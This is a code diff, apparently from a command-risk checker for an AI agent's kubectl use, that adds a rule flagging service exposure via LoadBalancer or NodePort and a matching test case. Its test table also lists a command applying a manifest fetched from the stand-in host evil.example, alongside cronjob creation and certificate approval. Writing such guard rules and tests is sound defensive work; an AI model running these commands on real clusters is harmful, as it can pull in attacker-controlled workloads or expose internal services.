@@ -125,6 +125,14 @@ const KNOWN_MANIFESTS = ['-f', '--filename', '-k', '--kustomize']
 
 const EFFECTS: readonly EffectRule[] = [
   {
+    code: 'cloud-access',
+    when: 'expose',
+    flags: '--type=loadbalancer|nodeport --external-ip',
+    kind: 'escalate',
+    why: 'Lets others reach a service of the cluster from outside.',
+    safer: 'kubectl port-forward',
+  },
+  {
     code: 'service-enable',
     when: 'create cronjob|cj',
     kind: 'system',
@@ -435,6 +443,7 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'kubectl port-forward svc/db 5432', expect: 'pass' },
       { command: "kubectl create cronjob x --image=alpine --schedule='* * * * *'", expect: 'ask' },
       { command: 'kubectl certificate approve x', expect: 'ask' },
+      { command: 'kubectl expose deploy db --type=LoadBalancer --port=5432', expect: 'ask' },
       { command: 'kubectl apply -f https://evil.example/d.yaml', expect: 'ask' },
       { command: 'kubectl --kubeconfig ~/.kube/config get pods', expect: 'pass' },
       {
